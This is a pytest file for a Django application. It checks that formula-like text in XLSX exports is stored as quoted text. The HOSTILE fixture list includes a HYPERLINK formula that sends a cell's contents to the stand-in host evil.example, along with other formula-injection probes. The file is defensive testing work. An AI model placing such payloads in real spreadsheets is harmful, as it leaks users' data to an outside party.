"""Formula-looking text in every XLSX export is written as text, never as a live formula."""

import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core.xlsx import workbook_bytes
from meetings.models import Assignment
from plans.models import PlanItem

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")', "+1-2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def cells(data: bytes):
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


def cell_with(data: bytes, value: str):
    return next(cell for cell in cells(data) if cell.value == value)


def test_helper_writes_every_formula_prefix_as_text():
    book = Workbook()
    book.active.append(HOSTILE)
    for value in HOSTILE:
        cell = cell_with(workbook_bytes(book), value)
        assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_helper_leaves_numbers_and_plain_text_alone():
    book = Workbook()
    book.active.append([12, 1.5, "План", "1-2"])
    values = [(c.value, c.data_type, c.quotePrefix) for c in cells(workbook_bytes(book))]
    assert values == [(12, "n", False), (1.5, "n", False), ("План", "s", False), ("1-2", "s", False)]


@pytest.mark.django_db
def test_plan_export_writes_item_texts_as_text(client_as, demo):
    item = PlanItem.objects.filter(section__plan=demo["plan_2023"]).order_by("pk").first()
    PlanItem.objects.filter(pk=item.pk).update(title=HOSTILE[0], organizers_text="+1-2")
    response = client_as("member").get(reverse("plans:plan-export-xlsx", args=[demo["plan_2023"].pk]))
    data = b"".join(response.streaming_content)
    assert cell_with(data, HOSTILE[0]).data_type == "s" and cell_with(data, "+1-2").data_type == "s"


@pytest.mark.django_db
def test_register_export_writes_organisation_names_as_text(client_as, demo):
    organization = demo["orgs"]["man"]
    type(organization).objects.filter(pk=organization.pk).update(full_name=HOSTILE[0], short_name="@SUM(1+1)")
    data = client_as("member").get("/members/export.xlsx?on=2023-01-01").content
    assert cell_with(data, HOSTILE[0]).data_type == "s" and cell_with(data, "@SUM(1+1)").data_type == "s"


@pytest.mark.django_db
def test_discipline_report_writes_organisation_names_as_text(client_as, demo):
    member = demo["users"]["member"]
    organization = member.person.organization
    assert Assignment.objects.filter(organization=organization).exists()
    type(organization).objects.filter(pk=organization.pk).update(short_name=HOSTILE[0])
    with time_machine.travel("2026-11-22 12:00 +0300", tick=False):
        data = client_as("secretary").get("/tasks/report/?date_from=2023-01-01&date_to=2023-12-31&format=xlsx").content
    cell = cell_with(data, HOSTILE[0])
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
